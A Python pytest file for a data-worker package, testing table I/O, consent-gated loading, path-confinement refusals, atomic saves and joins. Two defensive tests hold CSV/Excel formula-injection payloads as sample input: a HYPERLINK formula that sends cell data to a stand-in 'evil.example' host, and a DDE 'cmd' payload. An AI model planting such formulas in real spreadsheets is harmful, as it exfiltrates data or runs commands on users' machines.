"""File handlers and table I/O with real CSV, TSV, Parquet and Excel files in tmp_path."""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest

from statsbot_nb import protocol
from statsbot_nb.context import JobContext, JobSettings
from statsbot_nb.errors import AccessDenied, JobError
from statsbot_nb.handlers import files
from statsbot_nb.ml.data import (
    AtomicTableWriter,
    iter_table_chunks,
    read_columns,
    read_table,
    write_table_atomic,
)


@pytest.fixture
def data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    user = tmp_path / "home"
    user.mkdir()
    monkeypatch.setenv("HOME", str(user))
    data = tmp_path / "data"
    data.mkdir()
    (tmp_path / "outside").mkdir()
    return data


def make_ctx(data_dir: Path, share: bool = False) -> tuple[JobContext, list[tuple[float, str, str]]]:
    settings = JobSettings(
        home=data_dir.parent / "home" / ".statsbot", allowed_dirs=(data_dir,), cwd=data_dir, share_data=share
    )
    seen: list[tuple[float, str, str]] = []
    return JobContext(settings, lambda p, m, s: seen.append((p, m, s)), min_interval=0), seen


@pytest.fixture
def ctx(data_dir: Path) -> JobContext:
    return make_ctx(data_dir)[0]


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


PEOPLE = pd.DataFrame({"id": [1, 2, 3, 4], "name": ["Ann", "Bo", "Cy", "Di"], "age": [25, 31, 40, 35]})
ORDERS = pd.DataFrame({"id": [1, 1, 2, 5], "amount": [10.0, 20.0, 5.5, 7.0], "name": ["x", "y", "z", "w"]})


# -- table I/O -----------------------------------------------------------------------------------------


def test_read_table_formats_and_columns(data_dir: Path) -> None:
    PEOPLE.to_csv(data_dir / "p.csv", index=False)
    PEOPLE.to_csv(data_dir / "p.tsv", index=False, sep="\t")
    PEOPLE.to_parquet(data_dir / "p.parquet", index=False)
    PEOPLE.to_excel(data_dir / "p.xlsx", index=False)
    for name in ("p.csv", "p.tsv", "p.parquet", "p.xlsx"):
        path = data_dir / name
        assert read_columns(path) == ["id", "name", "age"]
        full = read_table(path)
        assert full["id"].tolist() == [1, 2, 3, 4] and full["name"].tolist() == ["Ann", "Bo", "Cy", "Di"]
        part = read_table(path, ["age", "id"])
        assert list(part.columns) == ["age", "id"]
        assert part["age"].tolist() == [25, 31, 40, 35]


def test_read_table_missing_column(data_dir: Path) -> None:
    PEOPLE.to_parquet(data_dir / "p.parquet", index=False)
    with pytest.raises(JobError) as err:
        read_table(data_dir / "p.parquet", ["age", "salary", "dept"])
    msg = str(err.value)
    assert "'salary'" in msg and "'dept'" in msg and "'id', 'name', 'age'" in msg


def test_read_table_na_markers_and_text_dtypes(data_dir: Path) -> None:
    (data_dir / "na.csv").write_text("a,b,d\n1,x,2024-01-01\nNA,,2024-01-02\nnull,N/A,\n4,y,2024-01-04\n")
    df = read_table(data_dir / "na.csv")
    assert df["a"].isna().tolist() == [False, True, True, False]
    assert df["b"].isna().tolist() == [False, True, True, False]
    # Dates stay text, as pandas.read_csv leaves them, so chunked reads agree with whole reads.
    assert not pd.api.types.is_datetime64_any_dtype(df["d"])
    assert df["d"].iloc[0] == "2024-01-01"
    chunk = next(iter(iter_table_chunks(data_dir / "na.csv", ["d", "b"], chunk_rows=10)))
    assert chunk["d"].dtype.kind == df["d"].dtype.kind and chunk["b"].dtype.kind == df["b"].dtype.kind
    assert not isinstance(df["b"].dtype, pd.ArrowDtype)
    (data_dir / "blank.csv").write_text("a,e\n1,\n2,\n")
    pd.testing.assert_frame_equal(read_table(data_dir / "blank.csv"), pd.read_csv(data_dir / "blank.csv"))


def test_csv_dtypes_match_pandas_whole_and_chunked(data_dir: Path) -> None:
    path = data_dir / "mix.csv"
    path.write_text('i,f,s,d,b,m\n1,1.5,x,2024-01-01,True,NA\n2,,"y, z",2024-01-02,False,3\n3,2.5,,,True,n/a\n')
    expected = pd.read_csv(path)
    pd.testing.assert_frame_equal(read_table(path), expected)
    pd.testing.assert_frame_equal(pd.concat(iter_table_chunks(path), ignore_index=True), expected)


def test_read_table_latin1_and_duplicate_headers(data_dir: Path) -> None:
    (data_dir / "l.csv").write_bytes("city,n\nMünchen,1\n".encode("latin-1"))
    assert read_table(data_dir / "l.csv")["city"].tolist() == ["München"]
    (data_dir / "dup.csv").write_text("a,a,b\n1,2,3\n")
    assert read_columns(data_dir / "dup.csv") == ["a", "a.1", "b"]
    assert read_table(data_dir / "dup.csv", ["a.1"])["a.1"].tolist() == [2]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("bad.parquet", b"this is not parquet"),
        ("bad.xlsx", b"PK\x03\x04 broken zip"),
        ("bad.xls", b"\xd0\xcf\x11\xe0 broken"),
        ("ragged.csv", b"a,b\n1,2\n3,4,5\n"),
    ],
)
def test_unparseable_files_give_sentences(data_dir: Path, name: str, content: bytes) -> None:
    (data_dir / name).write_bytes(content)
    with pytest.raises(JobError) as err:
        read_table(data_dir / name)
    assert name in str(err.value) and "Traceback" not in str(err.value)


def test_iter_table_chunks(data_dir: Path) -> None:
    big = pd.DataFrame({"x": range(25), "y": [f"r{i}" for i in range(25)]})
    big.to_csv(data_dir / "b.csv", index=False)
    big.to_parquet(data_dir / "b.parquet", index=False)
    big.to_excel(data_dir / "b.xlsx", index=False)
    for name in ("b.csv", "b.parquet", "b.xlsx"):
        chunks = list(iter_table_chunks(data_dir / name, ["y"], chunk_rows=10))
        assert [len(c) for c in chunks] == [10, 10, 5]
        assert all(list(c.columns) == ["y"] for c in chunks)
        assert pd.concat(chunks)["y"].tolist() == big["y"].tolist()


def test_write_table_atomic_roundtrip(data_dir: Path) -> None:
    for name in ("o.csv", "o.tsv", "o.parquet", "o.xlsx"):
        path = write_table_atomic(PEOPLE, data_dir / name)
        back = read_table(path)
        assert back["name"].tolist() == PEOPLE["name"].tolist() and list(back.columns) == ["id", "name", "age"]
    with pytest.raises(JobError, match=r"\.xls format cannot be written"):
        write_table_atomic(PEOPLE, data_dir / "o.xls")
    assert leftovers(data_dir) == []


def test_atomic_writer_chunks_and_failure(data_dir: Path) -> None:
    for name in ("c.csv", "c.parquet"):
        with AtomicTableWriter(data_dir / name) as writer:
            writer.write(PEOPLE.iloc[:2])
            assert not (data_dir / name).exists()  # nothing visible until commit
            writer.write(PEOPLE.iloc[2:])
        assert writer.rows == 4
        assert read_table(data_dir / name)["id"].tolist() == [1, 2, 3, 4]
    assert (data_dir / "c.csv").read_text().count("id,name,age") == 1

    (data_dir / "keep.csv").write_text("old\n1\n")
    with pytest.raises(RuntimeError), AtomicTableWriter(data_dir / "keep.csv") as writer:
        writer.write(PEOPLE)
        raise RuntimeError("crash in the middle")
    assert (data_dir / "keep.csv").read_text() == "old\n1\n"
    assert leftovers(data_dir) == []


def test_atomic_write_keeps_old_file_on_bad_data(data_dir: Path) -> None:
    target = data_dir / "t.parquet"
    PEOPLE.to_parquet(target, index=False)
    mixed = pd.DataFrame({"v": [1, "a", 2.5]}, dtype=object)
    with pytest.raises(JobError, match=r"Cannot write t\.parquet"):
        write_table_atomic(mixed, target)
    assert read_table(target)["id"].tolist() == [1, 2, 3, 4]
    assert leftovers(data_dir) == []


# -- file_info -----------------------------------------------------------------------------------------


def test_file_info(data_dir: Path, ctx: JobContext) -> None:
    PEOPLE.to_parquet(data_dir / "p.parquet", index=False)
    info = files.file_info({"file_path": "p.parquet"}, ctx)
    size = (data_dir / "p.parquet").stat().st_size
    assert info == {
        "exists": True,
        "size_bytes": size,
        "size_mb": round(size / 2**20, 2),
        "file_path": str((data_dir / "p.parquet").resolve()),
        "format": "parquet",
        "columns": ["id", "name", "age"],
        "column_count": 3,
    }
    wide = pd.DataFrame([list(range(60))], columns=[f"c{i}" for i in range(60)])
    wide.to_csv(data_dir / "w.csv", index=False)
    info = files.file_info({"file_path": str(data_dir / "w.csv")}, ctx)
    assert len(info["columns"]) == 50 and info["column_count"] == 60


def test_file_info_missing_and_refused(data_dir: Path, ctx: JobContext) -> None:
    info = files.file_info({"file_path": "nope.csv"}, ctx)
    assert info["exists"] is False and info["file_path"] == str(data_dir / "nope.csv")
    (data_dir.parent / "outside" / "x.csv").write_text("a\n1\n")
    with pytest.raises(AccessDenied, match="outside the folders"):
        files.file_info({"file_path": str(data_dir.parent / "outside" / "x.csv")}, ctx)
    with pytest.raises(AccessDenied, match="outside the folders"):
        files.file_info({"file_path": str(data_dir.parent / "outside" / "missing.csv")}, ctx)
    with pytest.raises(JobError, match="'file_path' must be"):
        files.file_info({}, ctx)
    with pytest.raises(JobError, match="'file_path' must be"):
        files.file_info({"file_path": 7}, ctx)


# -- load_data -----------------------------------------------------------------------------------------


def test_load_data_refused_without_consent(data_dir: Path, ctx: JobContext) -> None:
    PEOPLE.to_csv(data_dir / "p.csv", index=False)
    with pytest.raises(JobError) as err:
        files.load_data({"file_path": "p.csv"}, ctx)
    msg = str(err.value)
    assert "turned off" in msg and "--privacy share" in msg and "stays on this machine" in msg
    assert not isinstance(err.value, AccessDenied)


def test_load_data_with_consent(data_dir: Path) -> None:
    ctx, _ = make_ctx(data_dir, share=True)
    df = pd.DataFrame({"a": [1.5, np.nan, np.inf], "b": ["x", None, "z"], "c": [1, 2, 3]})
    df.to_parquet(data_dir / "p.parquet", index=False)
    out = files.load_data({"file_path": "p.parquet"}, ctx)
    json.dumps(out, allow_nan=False)  # strict JSON
    assert out["columns"] == ["a", "b", "c"] and out["rows"] == 3 and "truncated" not in out
    assert out["dataframe"] == [
        {"a": 1.5, "b": "x", "c": 1},
        {"a": None, "b": None, "c": 2},
        {"a": None, "b": "z", "c": 3},
    ]
    with pytest.raises(AccessDenied):
        files.load_data({"file_path": str(data_dir.parent / "outside" / "x.csv")}, ctx)


def test_load_data_caps_rows(data_dir: Path) -> None:
    ctx, _ = make_ctx(data_dir, share=True)
    pd.DataFrame({"i": range(files.LOAD_DATA_MAX_ROWS + 5)}).to_csv(data_dir / "big.csv", index=False)
    out = files.load_data({"file_path": "big.csv"}, ctx)
    assert out["rows"] == files.LOAD_DATA_MAX_ROWS == len(out["dataframe"])
    assert out["truncated"] is True and out["dataframe"][-1] == {"i": files.LOAD_DATA_MAX_ROWS - 1}


def test_load_data_rows_leave_as_text_made_in_the_job(data_dir: Path) -> None:
    """The rows' JSON text is made by the handler (in the job process) and spliced into the frame, which
    reads back exactly as encoding the rows anew would: NaN as null, dates as text, escapes kept."""
    ctx, _ = make_ctx(data_dir, share=True)
    frame = pd.DataFrame(
        {
            "n": [1.5, float("nan"), 3.0],
            "when": pd.to_datetime(["2024-01-02", None, "2024-03-04"]),
            "name": ["Zoë", 'say "hi"', "\u2028 line"],
        }
    )
    frame.to_parquet(data_dir / "cells.parquet")
    out = files.load_data({"file_path": "cells.parquet"}, ctx)
    wire = json.loads(protocol.encode_result_ok("j1", out))["data"]
    fresh = json.loads(protocol.dumps({"data": {**out, "dataframe": list(out["dataframe"])}}))["data"]
    assert wire == fresh and wire["dataframe"][1] == {"n": None, "when": None, "name": 'say "hi"'}
    assert protocol.encode_result_ok("j1", out).isascii()


# -- save_file -----------------------------------------------------------------------------------------

RECORDS = [{"a": 1, "b": "x"}, {"a": 2, "b": None}, {"a": 3.5, "b": "O'Brien"}]


@pytest.mark.parametrize("name", ["s.csv", "s.tsv", "s.parquet", "s.xlsx"])
def test_save_file_formats(data_dir: Path, ctx: JobContext, name: str) -> None:
    out = files.save_file({"file_path": name, "dataframe": RECORDS}, ctx)
    assert out["file_path"] == str((data_dir / name).resolve()) and out["rows"] == 3
    back = read_table(data_dir / name)
    assert back["a"].tolist() == [1, 2, 3.5] and back["b"].tolist()[2] == "O'Brien"
    assert leftovers(data_dir) == []


def test_save_file_replaces_only_its_own_output_atomically(data_dir: Path, ctx: JobContext) -> None:
    target = data_dir / "s.csv"
    files.save_file({"file_path": "s.csv", "dataframe": [{"a": 0, "b": "first"}]}, ctx)
    os.chmod(target, 0o640)
    files.save_file({"file_path": "s.csv", "dataframe": RECORDS}, ctx)
    assert target.read_text().startswith("a,b\n") and "O'Brien" in target.read_text()
    assert target.stat().st_mode & 0o777 == 0o640
    assert leftovers(data_dir) == []


def test_save_file_never_replaces_a_file_the_worker_did_not_write(data_dir: Path, ctx: JobContext) -> None:
    mine = data_dir / "mine.csv"
    mine.write_text("user,data\n1,2\n")
    with pytest.raises(JobError, match="was not written by this worker"):
        files.save_file({"file_path": "mine.csv", "dataframe": RECORDS}, ctx)
    assert mine.read_text() == "user,data\n1,2\n"
    # the worker's own output, then changed by the user: no longer the worker's to replace
    files.save_file({"file_path": "edited.csv", "dataframe": RECORDS}, ctx)
    edited = data_dir / "edited.csv"
    edited.write_text("a,b\n9,edited by hand\n")
    with pytest.raises(JobError, match="was not written by this worker"):
        files.save_file({"file_path": "edited.csv", "dataframe": RECORDS}, ctx)
    assert "edited by hand" in edited.read_text()
    # the worker's own output made read-only: never replaced either
    files.save_file({"file_path": "ro.csv", "dataframe": RECORDS}, ctx)
    readonly = data_dir / "ro.csv"
    os.chmod(readonly, 0o444)
    before = readonly.read_bytes()
    with pytest.raises(JobError, match="read-only"):
        files.save_file({"file_path": "ro.csv", "dataframe": [{"a": 5}]}, ctx)
    assert readonly.read_bytes() == before
    # join outputs follow the same rule (a user's file at the output name is refused)
    pd.DataFrame({"id": [1], "v": [2]}).to_csv(data_dir / "j1.csv", index=False)
    pd.DataFrame({"id": [1], "w": [3]}).to_csv(data_dir / "j2.csv", index=False)
    with pytest.raises(JobError, match="was not written by this worker"):
        files.join({"operation": "merge", "file_paths": ["j1.csv", "j2.csv"], "output_path": "mine.csv"}, ctx)
    assert mine.read_text() == "user,data\n1,2\n"
    assert leftovers(data_dir) == []


def test_save_file_csv_neutralises_formulas(data_dir: Path, ctx: JobContext) -> None:
    """Server text that a spreadsheet would run as a formula is written with a leading quote (OWASP)."""
    records = [
        {"name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "n": -3, "s": "-5"},
        {"name": "+cmd|' /C calc'!A0", "n": 2, "s": "@SUM(1+1)"},
        {"name": "-2+3", "n": 1.5, "s": "\t=1+1"},
        {"name": "plain = fine", "n": 4, "s": "none"},
    ]
    records[0]["=evil()"] = "x"
    for name in ("f.csv", "f.tsv"):
        files.save_file({"file_path": name, "dataframe": records}, ctx)
        with open(data_dir / name, newline="", encoding="utf-8") as fh:
            rows = list(csv.reader(fh, delimiter="," if name.endswith("csv") else "\t"))
        back = pd.DataFrame(rows[1:], columns=rows[0])
        assert back["name"].tolist() == [
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
            "'+cmd|' /C calc'!A0",
            "'-2+3",
            "plain = fine",
        ]
        assert back["n"].tolist() == ["-3.0", "2.0", "1.5", "4.0"]  # numbers untouched
        assert back["s"].tolist() == ["-5", "'@SUM(1+1)", "'\t=1+1", "none"]  # a number as text stays
        assert "'=evil()" in back.columns
    # a carriage return first is neutralised too (checked in the raw bytes: Python's csv module does not
    # quote a bare CR, so parsing the file back would split that row)
    files.save_file({"file_path": "cr.csv", "dataframe": [{"s": "\r=1"}]}, ctx)
    assert (data_dir / "cr.csv").read_bytes() == b"s\n'\r=1\n"


@pytest.mark.parametrize(
    ("params", "match"),
    [
        ({"file_path": "s.csv"}, "'dataframe' must be a non-empty list"),
        ({"file_path": "s.csv", "dataframe": []}, "The server sent no rows to save"),
        ({"file_path": "s.csv", "dataframe": {"a": [1]}}, "'dataframe' must be a non-empty list"),
        ({"file_path": "s.csv", "dataframe": [{"a": 1}, [2]]}, "item 1 is a list"),
        ({"file_path": "s.csv", "dataframe": [{"a": {"nested": 1}}]}, "holds a dict"),
        ({"dataframe": RECORDS}, "'file_path' must be"),
        ({"file_path": "s.xls", "dataframe": RECORDS}, r"\.xls format cannot be written"),
        ({"file_path": "s.txt", "dataframe": RECORDS}, "only tables"),
        ({"file_path": ".s.csv", "dataframe": RECORDS}, "hidden"),
        ({"file_path": "../outside/s.csv", "dataframe": RECORDS}, "outside the folders"),
        ({"file_path": "~/.statsbot/s.csv", "dataframe": RECORDS}, "StatsBot home"),
    ],
)
def test_save_file_refusals(data_dir: Path, ctx: JobContext, params: dict[str, Any], match: str) -> None:
    (data_dir.parent / "home" / ".statsbot").mkdir(parents=True, exist_ok=True)
    with pytest.raises(JobError, match=match):
        files.save_file(params, ctx)
    assert not (data_dir / "s.csv").exists() and not (data_dir.parent / "outside" / "s.csv").exists()
    assert leftovers(data_dir) == []


# -- join ----------------------------------------------------------------------------------------------


@pytest.fixture(params=["csv", "parquet"])
def pair(request: pytest.FixtureRequest, data_dir: Path) -> tuple[str, str]:
    ext = request.param
    left, right = data_dir / f"people.{ext}", data_dir / f"orders.{ext}"
    for df, path in ((PEOPLE, left), (ORDERS, right)):
        df.to_csv(path, index=False) if ext == "csv" else df.to_parquet(path, index=False)
    return str(left), str(right)


@pytest.mark.parametrize(
    ("operation", "ids", "rows"),
    [
        ("inner_join", [1, 1, 2], 3),
        ("merge", [1, 1, 2], 3),
        ("left_join", [1, 1, 2, 3, 4], 5),
        ("right_join", [1, 1, 2, 5], 4),
        ("outer_join", [1, 1, 2, 3, 4, 5], 6),
    ],
)
def test_key_joins(data_dir: Path, pair: tuple[str, str], operation: str, ids: list[int], rows: int) -> None:
    ctx, seen = make_ctx(data_dir)
    out = files.join(
        {"operation": operation, "file_paths": list(pair), "key_columns": ["id"], "output_path": "joined.csv"}, ctx
    )
    assert out["operation"] == operation and out["row_count"] == rows
    assert out["output_file"] == str((data_dir / "joined.csv").resolve())
    assert out["columns"] == ["id", "name_x", "age", "amount", "name_y"]  # pandas' suffixes, as the bot's worker
    assert out["column_count"] == 5
    result = read_table(data_dir / "joined.csv")
    assert sorted(result["id"].tolist()) == ids
    assert [s for _, _, s in seen][-1] == "done"
    assert {"validating", "reading", "joining", "writing", "done"} <= {s for _, _, s in seen}
    json.dumps(out, allow_nan=False)


def test_cross_concat_union(data_dir: Path, pair: tuple[str, str]) -> None:
    ctx, _ = make_ctx(data_dir)
    out = files.join({"operation": "cross_join", "file_paths": list(pair), "output_path": "x.parquet"}, ctx)
    assert out["row_count"] == 16 and out["columns"] == ["id_x", "name_x", "age", "id_y", "amount", "name_y"]
    assert len(read_table(data_dir / "x.parquet")) == 16

    out = files.join({"operation": "concat", "file_paths": [pair[0], pair[1], pair[0]], "output_path": "c.csv"}, ctx)
    assert out["row_count"] == 12 and out["columns"] == ["id", "name", "age", "amount"]
    out = files.join({"operation": "union", "file_paths": [pair[0], pair[1], pair[0]], "output_path": "u.csv"}, ctx)
    assert out["row_count"] == 12  # union keeps duplicate rows (pd.concat), as the bot's worker does
    assert read_table(data_dir / "u.csv")["amount"].isna().sum() == 8


def test_join_filters_and_default_output(data_dir: Path, pair: tuple[str, str]) -> None:
    ctx, seen = make_ctx(data_dir)
    out = files.join(
        {
            "operation": "inner_join",
            "file_paths": list(pair),
            "key_columns": "id",
            "filters": ["amount >= 10", "name in ['Ann', 'Bo']"],
        },
        ctx,
    )
    first = Path(pair[0])
    assert out["output_file"] == str(first.with_name(f"{first.stem}_joined{first.suffix}").resolve())
    # each file is filtered before the join, on the columns it has (as the bot's worker does): people keeps
    # Ann and Bo; in orders, amount >= 10 keeps names x and y, which the name filter then drops: no rows
    assert out["row_count"] == 0 and out["input_rows"] == [4, 4]
    assert "filtering" in {s for _, _, s in seen}
    out = files.join(
        {
            "operation": "left_join",
            "file_paths": list(pair),
            "key_columns": "id",
            "filters": ["amount >= 10", "id <= 2"],
            "output_path": "f.csv",
        },
        ctx,
    )
    # people keeps ids 1, 2; orders keeps (1, 10.0), (1, 20.0): Ann twice, Bo with no order
    assert out["row_count"] == 3
    assert read_table(data_dir / "f.csv")["amount"].tolist()[:2] == [10.0, 20.0]


def test_join_three_files_and_excel_input(data_dir: Path) -> None:
    ctx, _ = make_ctx(data_dir)
    PEOPLE.to_excel(data_dir / "p.xlsx", index=False)
    ORDERS.to_csv(data_dir / "o.csv", index=False)
    pd.DataFrame({"id": [1, 2], "name": ["n1", "n2"]}).to_parquet(data_dir / "n.parquet", index=False)
    out = files.join(
        {"operation": "left_join", "file_paths": ["p.xlsx", "o.csv", "n.parquet"], "key_columns": ["id"]}, ctx
    )
    assert out["output_file"].endswith("p_joined.csv") and out["row_count"] == 5
    # p, o clash on 'name' -> name_x, name_y; n's 'name' then clashes with nothing and stays 'name'
    assert out["columns"] == ["id", "name_x", "age", "amount", "name_y", "name"]


def test_join_refusals(data_dir: Path, pair: tuple[str, str]) -> None:
    ctx, _ = make_ctx(data_dir)
    base = {"operation": "inner_join", "file_paths": list(pair), "key_columns": ["id"]}
    cases: list[tuple[dict[str, Any], str]] = [
        ({"operation": "explode"}, "'operation' must be one of"),
        ({"file_paths": [pair[0]]}, "'file_paths' must be a list of at least two file paths"),
        ({"file_paths": pair[0]}, "'file_paths' must be a list of at least two file paths"),
        ({"file_paths": [pair[0], 3]}, "'file_paths' must be a list of at least two file paths"),
        ({"key_columns": []}, "'key_columns' must be a non-empty list"),
        ({"key_columns": None}, "'key_columns' must be a non-empty list"),
        ({"key_columns": ["age"]}, "has no column 'age'"),
        ({"filters": ["amount >> 3"]}, "cannot be used"),
        ({"filters": "amount > 3"}, "'filters' must be a list"),
        ({"filters": ["nosuch > 3"]}, "which no input file has"),
        ({"output_path": 5}, "'output_path' must be"),
        ({"output_path": "../outside/j.csv"}, "outside the folders"),
        ({"output_path": "j.txt"}, "only tables"),
        ({"file_paths": [pair[0], "../outside/o.csv"]}, "outside the folders"),
    ]
    for override, match in cases:
        with pytest.raises(JobError, match=match):
            files.join({**base, **override}, ctx)
    assert not (data_dir.parent / "outside" / "j.csv").exists()
    assert leftovers(data_dir) == []


def test_join_key_type_mismatch_is_a_sentence(data_dir: Path) -> None:
    ctx, _ = make_ctx(data_dir)
    PEOPLE.to_csv(data_dir / "a.csv", index=False)
    pd.DataFrame({"id": ["p", "q"], "v": [1, 2]}).to_csv(data_dir / "b.csv", index=False)
    with pytest.raises(JobError, match="same kind of values"):
        files.join({"operation": "inner_join", "file_paths": ["a.csv", "b.csv"], "key_columns": ["id"]}, ctx)


def test_explosive_joins_refused(data_dir: Path) -> None:
    ctx, _ = make_ctx(data_dir)
    n = 8000  # 8000 x 8000 = 64 million rows > the 50 million limit
    pd.DataFrame({"k": [1] * n, "a": range(n)}).to_csv(data_dir / "l.csv", index=False)
    pd.DataFrame({"k": [1] * n, "b": range(n)}).to_parquet(data_dir / "r.parquet", index=False)
    with pytest.raises(JobError, match="about 64,000,000 rows"):
        files.join({"operation": "cross_join", "file_paths": ["l.csv", "r.parquet"]}, ctx)
    with pytest.raises(JobError, match="about 64,000,000 rows"):
        files.join({"operation": "inner_join", "file_paths": ["l.csv", "r.parquet"], "key_columns": ["k"]}, ctx)
    assert not (data_dir / "l_joined.csv").exists()


def test_save_file_xlsx_keeps_server_text_inert(data_dir: Path, ctx: JobContext) -> None:
    """A string starting with '=' from the server is stored as text, never as a live Excel formula."""
    import openpyxl

    target = data_dir / "from_bot.xlsx"
    records = [{"name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "n": 1}, {"name": "plain", "n": 2}]
    assert files.save_file({"file_path": str(target), "dataframe": records}, ctx)["rows"] == 2
    sheet = openpyxl.load_workbook(target).active
    cells = {c.value: c.data_type for row in sheet.iter_rows(min_row=2) for c in row}
    assert cells[records[0]["name"]] == "s" and cells["plain"] == "s" and cells[1] == "n"
